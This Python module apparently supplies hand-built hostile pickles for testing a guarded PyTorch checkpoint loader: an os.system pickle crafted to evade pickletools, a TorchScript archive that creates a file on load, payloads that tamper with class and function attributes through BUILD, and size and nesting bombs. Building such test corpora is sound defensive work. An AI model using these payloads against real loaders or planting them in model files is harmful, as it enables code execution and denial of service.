"""Hand-made hostile pickles and archives that no pickler writes (used by :mod:`.corpus` and the tests).

Three kinds:

* **Byte items that slip past a sniff**: a protocol-0 text pickle that CPython's C unpickler reads but
  :mod:`pickletools` rejects (``I0x10``: ``strtol`` with base 0), and a TorchScript archive whose
  ``__setstate__`` creates a file when ``torch.load`` hands it to ``torch.jit.load``.
* **Process-state attacks**: streams of allow-listed globals only that ``BUILD`` an allow-listed class,
  function or enum member (``__qualname__``, ``__bases__``, ``_value_``, ``__defaults__``), or give a
  fresh instance dunder attributes or slot state, then go on to decode a valid object.
* **Size bombs**: ``BYTEARRAY8``/``BINBYTES8``/``BINUNICODE8``/``BINBYTES``/``LONG4`` lengths far beyond
  the stream, a ``FRAME`` of 2^62 bytes, and nesting 200,000 levels deep.

Each process-state payload is a prefix spliced in front of a valid protocol-2 pickle (``splice``): it
leaves the stack as it found it, so an unguarded unpickler applies it and then returns the valid object.
"""

from __future__ import annotations

import io
import pickle
import struct
from typing import Any

import torch

__all__ = [
    "BOMBS",
    "FRESH_ATTACKS",
    "RECORD_STATE_ATTACKS",
    "STATE_ATTACKS",
    "as_prefix",
    "deep_nesting",
    "nest_inside",
    "size_bomb",
    "splice",
    "text_int_payload",
    "torchscript_payload",
]

MD = b"torch.distributed.checkpoint.metadata\n"


def _str(text: str) -> bytes:
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw  # BINUNICODE


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _slot_build(target: bytes, attr: str, value: bytes) -> bytes:
    """``target``; ``(None, {attr: value})``; BUILD; POP: setattr(target, attr, value) through slot state."""
    return target + b"N}" + _str(attr) + value + b"s\x86b0"


def _dict_build(target: bytes, attr: str, value: bytes) -> bytes:
    """``target``; ``{attr: value}``; BUILD; POP: target.__dict__[attr] = value."""
    return target + b"}" + _str(attr) + value + b"sb0"


def as_prefix(whole: bytes) -> bytes:
    """A whole protocol-2 pickle of one object made into a prefix that builds the object and drops it."""
    if not (whole.startswith(b"\x80\x02") and whole.endswith(b".")):
        raise ValueError("as_prefix needs a whole protocol-2 pickle")
    return whole[2:-1] + b"0"


def nest_inside(valid: bytes, placeholder: str, depth: int = 200_000) -> bytes:
    """``valid`` (protocol 2) with the string ``placeholder`` replaced by a list nested ``depth`` deep."""
    raw = placeholder.encode()
    for needle in (b"X" + struct.pack("<I", len(raw)) + raw, b"\x8c" + bytes([len(raw)]) + raw):
        if needle in valid:
            return valid.replace(needle, b"]" * depth + b"a" * (depth - 1), 1)
    raise ValueError(f"{placeholder!r} is not in the pickle")


def splice(prefix: bytes, valid: bytes) -> bytes:
    """``prefix`` run before the valid protocol-2 pickle ``valid`` (which must start with PROTO 2)."""
    if not valid.startswith(b"\x80\x02"):
        raise ValueError("splice needs a protocol-2 pickle")
    return b"\x80\x02" + prefix + valid[2:]


# Metadata-level state attacks: name -> prefix for a DCP .metadata pickle (allow-listed globals only).
STATE_ATTACKS: dict[str, bytes] = {
    "class-qualname": _slot_build(_global(MD.decode().strip(), "Metadata"), "__qualname__", _str("Pwned")),
    "class-method": _slot_build(
        _global(MD.decode().strip(), "StorageMeta"), "__init__", _global("builtins", "getattr")
    ),
    "class-bases": _slot_build(
        _global("pathlib", "PosixPath"), "__bases__", _global("pathlib", "PurePosixPath") + b"\x85"
    ),
    "enum-member-value": _dict_build(
        _global(MD.decode().strip(), "_MEM_FORMAT_ENCODING") + b"K\x01\x85R", "_value_", b"K\x02"
    ),
    "enum-member-by-getattr": _dict_build(
        _global("builtins", "getattr")
        + _global(MD.decode().strip(), "_MEM_FORMAT_ENCODING")
        + _str("TORCH_CONTIGUOUS_FORMAT")
        + b"\x86R",
        "_value_",
        b"K\x03",
    ),
    "enum-member-by-reconstructor": _dict_build(  # copyreg._reconstructor(E, E, 0): the shared member
        _global("copyreg", "_reconstructor")
        + b"("
        + _global(MD.decode().strip(), "_MEM_FORMAT_ENCODING") * 2
        + b"K\x00tR",
        "_value_",
        b"K\x04",
    ),
    "function-qualname": _slot_build(_global("copyreg", "_reconstructor"), "__qualname__", _str("pwned")),
    "function-defaults": _slot_build(_global("copyreg", "_reconstructor"), "__defaults__", b"N\x85"),
}

# Attacks on an instance the load created: dunder attributes and slot state that only a class's own
# __setstate__ may interpret. name -> a whole pickle whose result shows the effect when unguarded.
_FRESH_META = _global(MD.decode().strip(), "StorageMeta") + b")\x81"
FRESH_ATTACKS: dict[str, bytes] = {
    "fresh-instance-class-swap": b"\x80\x02"
    + _FRESH_META
    + b"N}"
    + _str("__class__")
    + _global(MD.decode().strip(), "Metadata")
    + b"s\x86b.",
    "fresh-instance-dunder": b"\x80\x02"
    + _FRESH_META
    + b"}"
    + _str("__reduce_ex__")
    + _global("builtins", "getattr")
    + b"sb.",
    "fresh-instance-dunder-text-key": b"\x80\x02"  # the key as a protocol-0 UNICODE line
    + _FRESH_META
    + b"}V__reduce_ex__\n"
    + _global("builtins", "getattr")
    + b"sb.",
    "fresh-instance-dunder-binstring-key": b"\x80\x02"  # SHORT_BINSTRING: a str under the default encoding
    + _FRESH_META
    + b"}U\x0d__reduce_ex__"
    + _global("builtins", "getattr")
    + b"sb.",
    "fresh-instance-dict-from-call": b"\x80\x02"
    + _FRESH_META
    + _global("builtins", "dict")
    + b"]("
    + _str("__eq__")
    + _global("builtins", "getattr")
    + b"ta\x85Rb.",
}

# data.pkl-level: allow-listed rebuild functions of torch.save's and DCP records' decoders.
RECORD_STATE_ATTACKS: dict[str, bytes] = {
    "rebuild-function-defaults": _slot_build(
        _global("torch._utils", "_rebuild_tensor_v2"), "__defaults__", b"K\x07\x85"
    ),
    "rebuild-function-qualname": _slot_build(_global("torch._utils", "_rebuild_tensor_v2"), "__qualname__", _str("x")),
}


def size_bomb(opcode: str) -> bytes:
    """A pickle whose first opcode claims 3 GiB (a 4-byte length: 2 GiB - 1) it does not have."""
    huge8, huge4 = struct.pack("<Q", 3 << 30), struct.pack("<I", 0x7FFFFFFF)
    body = {
        "BYTEARRAY8": b"\x96" + huge8,
        "BINBYTES8": b"\x8e" + huge8,
        "BINUNICODE8": b"\x8d" + huge8,
        "BINBYTES": b"B" + huge4,
        "BINUNICODE": b"X" + huge4,
        "LONG4": b"\x8b" + huge4,
        "FRAME": b"\x95" + huge8,
        "LONG_BINPUT": b"N" + b"r" + struct.pack("<I", 0x3FFFFFFF),
    }[opcode]
    return b"\x80\x05" + body + b"0N."


BOMBS = ("BYTEARRAY8", "BINBYTES8", "BINUNICODE8", "BINBYTES", "BINUNICODE", "LONG4", "FRAME", "LONG_BINPUT")


def deep_nesting(depth: int = 200_000) -> bytes:
    """``[[[...]]]`` ``depth`` levels deep, built without recursion (EMPTY_LIST x depth, APPEND x depth-1)."""
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


def text_int_payload(marker: str) -> bytes:
    """``os.system("touch marker")`` as a protocol-0 pickle that :mod:`pickletools` cannot parse."""
    return b"cos\nsystem\n(S'touch " + marker.encode() + b"'\ntRI0x10\n0."


class _SetstateProbe(torch.nn.Module):
    """Scripted, its ``__setstate__`` runs inside ``torch.jit.load`` and creates the file ``path``."""

    def __init__(self, path: str) -> None:
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, bool]:
        return (self.path, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, bool]) -> None:
        self.path = state[0]
        created = torch.from_file(state[0], True, 4)  # shared=True: opens with O_CREAT
        self.training = bool(created.numel() == 4) and state[1]


def torchscript_payload(marker: str) -> bytes:
    """A TorchScript archive whose loading (``torch.load(weights_only=False)``) creates ``marker``."""
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(_SetstateProbe(marker)), buf)
    return buf.getvalue()


def deflated_torch_save(value: Any) -> bytes:
    """``torch.save(value)`` re-zipped with every entry deflated (torch.save stores; torch.load inflates)."""
    import zipfile

    src, out = io.BytesIO(), io.BytesIO()
    torch.save(value, src)
    with zipfile.ZipFile(io.BytesIO(src.getvalue())) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
    return out.getvalue()


def protocol2(obj: Any) -> bytes:
    return pickle.dumps(obj, protocol=2)
